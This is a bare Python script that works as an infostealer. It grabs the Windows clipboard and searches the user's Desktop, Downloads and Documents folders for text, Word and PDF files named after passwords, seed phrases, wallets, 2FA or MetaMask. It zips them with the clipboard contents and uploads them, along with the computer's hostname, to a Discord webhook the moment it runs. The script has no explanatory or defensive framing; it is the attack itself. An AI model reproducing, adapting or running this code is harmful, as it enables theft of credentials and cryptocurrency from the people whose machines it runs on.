import os, io, zipfile, json, tempfile, platform
import requests
def clip():
    try:
        import win32clipboard as c
        c.OpenClipboard(); d = c.GetClipboardData(); c.CloseClipboard()
        return d
    except Exception: return ""
WORDS = ("pass", "seed", "wallet", "2fa", "backup", "metamask")
def wanted(n): return n.lower().endswith((".txt", ".docx", ".pdf")) and any(w in n.lower() for w in WORDS)
def scan():
    for d in ("Desktop", "Downloads", "Documents"):
        b = os.path.join(os.path.expanduser("~"), d)
        for n in os.listdir(b) if os.path.isdir(b) else ():
            if wanted(n): yield os.path.join(b, n)
def ship():
    m = io.BytesIO()
    with zipfile.ZipFile(m, "w") as z:
        z.writestr("clip.txt", clip() or "")
        for p in scan(): z.write(p)
    m.seek(0)
    requests.post("https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdef", files={"file": ("x.zip", m)}, data={"payload_json": json.dumps({"content": platform.node()})})
ship()
